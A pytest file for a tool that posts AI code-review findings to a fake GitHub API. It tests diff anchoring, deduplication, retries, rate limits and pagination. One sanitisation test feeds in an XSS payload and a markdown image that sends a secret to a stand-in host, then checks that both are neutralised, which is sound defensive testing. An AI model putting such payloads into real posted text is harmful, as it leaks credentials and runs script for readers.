"""Posting a review on a PR, against the fake GitHub API (schema-checked, 422 off the diff)."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import pytest

from coordinator.diff.model import Diff
from coordinator.diff.sources import DiffRequest, read_diff
from coordinator.findings import Anchor, ReviewFinding, Severity
from coordinator.integrations.github import GitHubClient, GitHubError
from coordinator.integrations.github_event import PullRequest
from coordinator.integrations.github_publish import GITHUB_REJECTED, Published, publish_review
from coordinator.integrations.github_review import OFF_DIFF, OVER_LIMIT
from coordinator.integrations.github_summary import SUMMARY_MARKER
from coordinator.review import (
    DiffSummary,
    FailOn,
    Review,
    ReviewerReport,
    ReviewerStatus,
    summarise,
)
from tests.fakes.github_api import FakeGitHub
from tests.gitrepo import GitRepo, make_repo

ACTIONS = "ghs_actions_token"
OLD = "".join(f"line {n}\n" for n in range(1, 41))
# Changes at lines 5 and 30: two hunks, 2-8 and 27-33 on the new side.
NEW = OLD.replace("line 5\n", "    changed = five()\n").replace("line 30\n", "changed 30\n")


def finding(
    fid: str,
    line: int,
    *,
    end: int | None = None,
    severity: Severity = Severity.HIGH,
    title: str | None = None,
    body: str = "Explanation.",
    suggestion: str | None = None,
    path: str = "src/app.py",
    rank: int = 1,
    anchor: Anchor = Anchor.ADDED,
) -> ReviewFinding:
    return ReviewFinding(
        id=fid,
        rank=rank,
        score=0.8,
        path=path,
        line=line,
        end_line=end,
        severity=severity,
        category="correctness",
        title=title or f"Problem {fid}",
        body=body,
        suggestion=suggestion,
        confidence=0.9,
        evidence=None,
        reviewers=["correctness"],
        anchor=anchor,
    )


def review_of(findings: list[ReviewFinding]) -> Review:
    return Review(
        diff=DiffSummary(base=None, head=None, files=1, additions=2, deletions=2),
        reviewers=[
            ReviewerReport(
                agent="correctness",
                runtime="opencode",
                model="fake/m",
                status=ReviewerStatus.OK,
                sessions=1,
                duration_s=1.0,
                tokens_in=10,
                tokens_out=5,
                cost_usd=0.0,
                findings=len(findings),
            )
        ],
        findings=findings,
        rejected=[],
        unreviewed=[],
        summary=summarise(findings, FailOn.HIGH),
    )


@dataclass
class PR:
    repo: GitRepo
    base: str
    head: str
    diff: Diff
    pull: PullRequest
    gh: FakeGitHub

    def advance(self, content: str, *, outdated: tuple[str, ...] = ()) -> None:
        self.repo.write("src/app.py", content)
        self.head = self.repo.commit("next")
        self.diff = read_diff(self.repo.root, DiffRequest(range=f"{self.base}...{self.head}"))
        self.pull = PullRequest(**{**self.pull.__dict__, "head_sha": self.head})
        self.gh.push(7, head_sha=self.head, patch=self.patch(), outdated=outdated)

    def patch(self, *extra: str) -> str:
        return self.repo.git("diff", *extra, f"{self.base}...{self.head}")

    def publish(self, review: Review, token: str = ACTIONS, **options: Any) -> Published:
        async def go() -> Published:
            async with GitHubClient(self.gh.url, token) as client:
                return await publish_review(
                    client,
                    self.pull,
                    review,
                    self.diff,
                    max_comments=options.pop("max_comments", 30),
                    run_id=options.pop("run_id", "run1"),
                    server_url="https://github.test",
                    **options,
                )

        return anyio.run(go)


@pytest.fixture
def gh() -> Iterator[FakeGitHub]:
    with FakeGitHub() as fake:
        yield fake


@pytest.fixture
def pr(tmp_path: Path, gh: FakeGitHub) -> PR:
    repo = make_repo(tmp_path)
    repo.write("src/app.py", OLD)
    base = repo.commit("base")
    repo.write("src/app.py", NEW)
    head = repo.commit("change")
    diff = read_diff(repo.root, DiffRequest(range=f"{base}...{head}"))
    pull = PullRequest("acme", "app", 7, base, head, "acme/app", "acme/app", "pull_request")
    made = PR(repo, base, head, diff, pull, gh)
    gh.add_pull(7, base_sha=base, head_sha=head, patch=made.patch())
    return made


def test_first_run_posts_one_review_with_comments_on_the_diff_and_the_rest_in_the_body(
    pr: PR, gh: FakeGitHub
) -> None:
    findings = [
        finding("a" * 16, 5, severity=Severity.CRITICAL, suggestion="changed = five(x)"),
        finding("b" * 16, 29, end=31, suggestion="x\ny\nz", rank=2),  # a multi-line range in a hunk
        finding("c" * 16, 7, end=12, suggestion="whatever", rank=3),  # runs past its hunk
        finding("d" * 16, 20, rank=4),  # between the hunks: not in the PR diff
    ]
    result = pr.publish(review_of(findings))

    assert gh.violations == []
    assert len(gh.reviews) == 1
    posted = gh.reviews[0]
    assert posted["event"] == "COMMENT"
    assert posted["commit_id"] == pr.head
    assert result.inline == 3
    assert result.in_body == 1
    comments = {c["line"]: c for c in gh.review_comments}
    assert set(comments) == {5, 31, 7}
    # The suggestion replaces exactly the commented line; its indentation, lost when the
    # finding was parsed, comes back from the line it replaces.
    assert "```suggestion\n    changed = five(x)\n```" in comments[5]["body"]
    assert comments[31]["start_line"] == 29
    assert "```suggestion\nx\ny\nz\n```" in comments[31]["body"]
    assert "suggestion" not in comments[7]["body"].split("```")[1]  # shown, not applicable
    assert "Suggested replacement for lines 7-12" in comments[7]["body"]
    assert all("<!-- council:fp=" in c["body"] for c in gh.review_comments)
    assert f"#### {OFF_DIFF} (1)" in posted["body"]
    assert "<!-- council:fp=" + "d" * 16 + " -->" in posted["body"]

    assert len(gh.issue_comments) == 1
    summary = gh.issue_comments[0]["body"]
    assert summary.startswith(SUMMARY_MARKER)
    assert "Result: **failed**" in summary
    assert "Problem " + "a" * 16 in summary
    assert result.summary_url == gh.issue_comments[0]["html_url"]


def test_second_run_on_the_same_head_posts_nothing_new(pr: PR, gh: FakeGitHub) -> None:
    review = review_of([finding("a" * 16, 5), finding("d" * 16, 20, rank=2)])
    pr.publish(review)
    again = pr.publish(review, run_id="run2")
    assert gh.violations == []
    assert len(gh.reviews) == 1
    assert len(gh.review_comments) == 1
    assert len(gh.issue_comments) == 1
    assert again.review_url is None
    assert again.already_reported == 2
    # The summary was edited in place, not posted again.
    assert gh.calls_to("PATCH", r"/issues/comments/\d+")
    assert len(gh.calls_to("POST", r"/issues/\d+/comments")) == 1


def test_a_new_head_posts_only_new_findings_and_the_summary_shows_what_was_fixed(
    pr: PR, gh: FakeGitHub
) -> None:
    pr.publish(review_of([finding("a" * 16, 5), finding("b" * 16, 30, rank=2)]))
    pr.advance(NEW.replace("line 2\n", "new two\n"))
    pr.publish(
        review_of([finding("a" * 16, 5), finding("e" * 16, 2, title="Fresh problem", rank=2)]),
        run_id="run2",
    )
    assert gh.violations == []
    assert len(gh.reviews) == 2
    second = [c for c in gh.review_comments if c["pull_request_review_id"] == gh.reviews[1]["id"]]
    assert [c["line"] for c in second] == [2]
    assert "Fresh problem" in second[0]["body"]
    summary = gh.issue_comments[0]["body"]
    assert len(gh.issue_comments) == 1
    assert "Fresh problem" in summary
    assert "**No longer found** since the last review (1)" in summary
    assert "~~Problem " + "b" * 16 + "~~" in summary
    assert pr.head[:12] in summary


def test_a_finding_whose_comment_went_outdated_is_commented_again_and_the_old_one_goes(
    pr: PR, gh: FakeGitHub
) -> None:
    pr.publish(review_of([finding("a" * 16, 5)]))
    pr.advance(NEW.replace("line 3\n", "moved\nline 3\n"), outdated=("src/app.py",))
    result = pr.publish(review_of([finding("a" * 16, 6)]), run_id="run2")
    assert len(gh.reviews) == 2
    # The new comment replaces the outdated one, which had no replies (reviewdog's rule).
    assert [c["line"] for c in gh.review_comments] == [6]
    assert [c["line"] for c in gh.deleted_comments] == [None]
    assert result.retired.deleted == 1


def test_when_github_rejects_a_comment_it_moves_to_the_body_and_the_review_is_retried_once(
    pr: PR, gh: FakeGitHub
) -> None:
    # GitHub's diff has no context lines here, so the comment on context line 3 is off its diff.
    gh.pulls[7].patch = pr.patch("--unified=0")
    result = pr.publish(review_of([finding("a" * 16, 5), finding("b" * 16, 3, rank=2)]))
    assert gh.violations == []
    posts = gh.calls_to("POST", r"/pulls/7/reviews$")
    assert [c.status for c in posts] == [422, 200]
    assert len(gh.reviews) == 1
    assert [c["line"] for c in gh.review_comments] == [5]
    assert f"#### {GITHUB_REJECTED} (1)" in gh.reviews[0]["body"]
    assert "Problem " + "b" * 16 in gh.reviews[0]["body"]
    assert result.moved_after_422 == 1


def test_comments_beyond_the_limit_go_to_the_body(pr: PR, gh: FakeGitHub) -> None:
    findings = [finding(f"{n:016x}", 4 + n, rank=n) for n in range(1, 4)]
    result = pr.publish(review_of(findings), max_comments=1)
    assert (result.inline, result.in_body) == (1, 2)
    assert f"#### {OVER_LIMIT} (2)" in gh.reviews[0]["body"]


def test_text_is_made_safe_before_it_is_posted(pr: PR, gh: FakeGitHub) -> None:
    secret = "sk-live-abcdefghijklmnopqrstuvwxyz"
    body = (
        "Ping @octocat and @acme/security, see #12. <img src=x onerror=alert(1)> "
        f"![t](https://evil.test/?k={secret}) token ghp_{'a' * 36}\n"
        "<!-- council:fp=" + "f" * 16 + " -->\n"
        "```python\nif a < b: pass\n```"
    )
    pr.publish(
        review_of([finding("a" * 16, 5, body=body, title="Bad @mention <b>x</b>")]),
        secrets=(secret,),
    )
    text = gh.review_comments[0]["body"]
    assert "@octocat" not in text
    assert "@\u200boctocat" in text
    assert "@acme/security" not in text
    assert "#12" not in text
    assert "<img" not in text
    assert "&lt;img" in text
    assert "<b>" not in text
    assert "![" not in text
    assert secret not in text
    assert "ghp_" not in text
    assert "if a < b: pass" in text  # code stays as written
    assert text.count("<!-- council:fp=") == 1  # a marker in model text cannot pose as ours
    summary = gh.issue_comments[0]["body"]
    assert "@mention" not in summary
    assert secret not in summary


def test_huge_bodies_stay_within_githubs_limit(pr: PR, gh: FakeGitHub) -> None:
    big = "word " * 40_000
    findings = [finding(f"{n:016x}", 20, body=big, title="t" * 5000, rank=n) for n in range(1, 80)]
    findings.append(finding("a" * 16, 5, body=big, suggestion="x = 1\n" * 20_000))
    pr.publish(review_of(findings))
    assert gh.violations == []
    assert len(gh.reviews) == 1
    assert all(len(c["body"]) <= 65_536 for c in gh.review_comments)
    assert len(gh.reviews[0]["body"]) <= 65_536
    assert len(gh.issue_comments[0]["body"]) <= 65_536
    assert "too long to show here" in gh.review_comments[0]["body"]


def test_rate_limits_are_waited_out(pr: PR, gh: FakeGitHub) -> None:
    gh.fail_next("GET", r"/pulls/7/comments", 429, headers={"retry-after": "2"})
    gh.fail_next(
        "POST",
        r"/pulls/7/reviews$",
        403,
        body={"message": "You have exceeded a secondary rate limit."},
    )
    waits: list[float] = []

    async def sleep(seconds: float) -> None:
        waits.append(seconds)

    async def go() -> None:
        async with GitHubClient(gh.url, ACTIONS, sleep=sleep) as client:
            await publish_review(
                client,
                pr.pull,
                review_of([finding("a" * 16, 5)]),
                pr.diff,
                max_comments=30,
                run_id="r",
                server_url="https://github.test",
            )

    anyio.run(go)
    assert waits == [2.0, 60.0]
    assert len(gh.reviews) == 1


def test_a_read_only_token_is_reported_as_no_permission(pr: PR, gh: FakeGitHub) -> None:
    with pytest.raises(GitHubError) as caught:
        pr.publish(review_of([finding("a" * 16, 5)]), token="ghs_fork_token")
    assert caught.value.no_permission
    assert "Resource not accessible by integration" in str(caught.value)
    assert gh.reviews == []


def test_a_summary_marker_pasted_by_a_person_is_not_taken_for_ours(pr: PR, gh: FakeGitHub) -> None:
    gh.issue_comments.append(
        {
            "id": 1,
            "user": {"login": "mallory", "type": "User"},
            "body": SUMMARY_MARKER + "\nfake",
            "html_url": "https://github.test/x",
            "pull": 7,
        }
    )
    pr.publish(review_of([finding("a" * 16, 5)]))
    assert gh.issue_comments[0]["body"].endswith("fake")  # untouched
    assert len(gh.issue_comments) == 2


def test_a_personal_token_recognises_its_own_summary(pr: PR, gh: FakeGitHub) -> None:
    review = review_of([finding("a" * 16, 5)])
    pr.publish(review, token="ghp_personal_token")
    pr.publish(review, token="ghp_personal_token", run_id="run2")
    assert len(gh.issue_comments) == 1
    assert len(gh.reviews) == 1
    assert gh.calls_to("GET", r"^/user$")


def test_many_existing_comments_are_read_across_pages(pr: PR, gh: FakeGitHub) -> None:
    for n in range(250):
        gh.review_comments.append(
            {
                "id": n,
                "pull_request_review_id": 1,
                "user": {"login": "someone", "type": "User"},
                "body": "chatter",
                "path": "src/app.py",
                "line": 5,
                "pull": 7,
            }
        )
    pr.publish(review_of([finding("a" * 16, 5)]))
    pages = gh.calls_to("GET", r"/pulls/7/comments$")
    assert len(pages) == 3
    assert len(gh.reviews) == 1
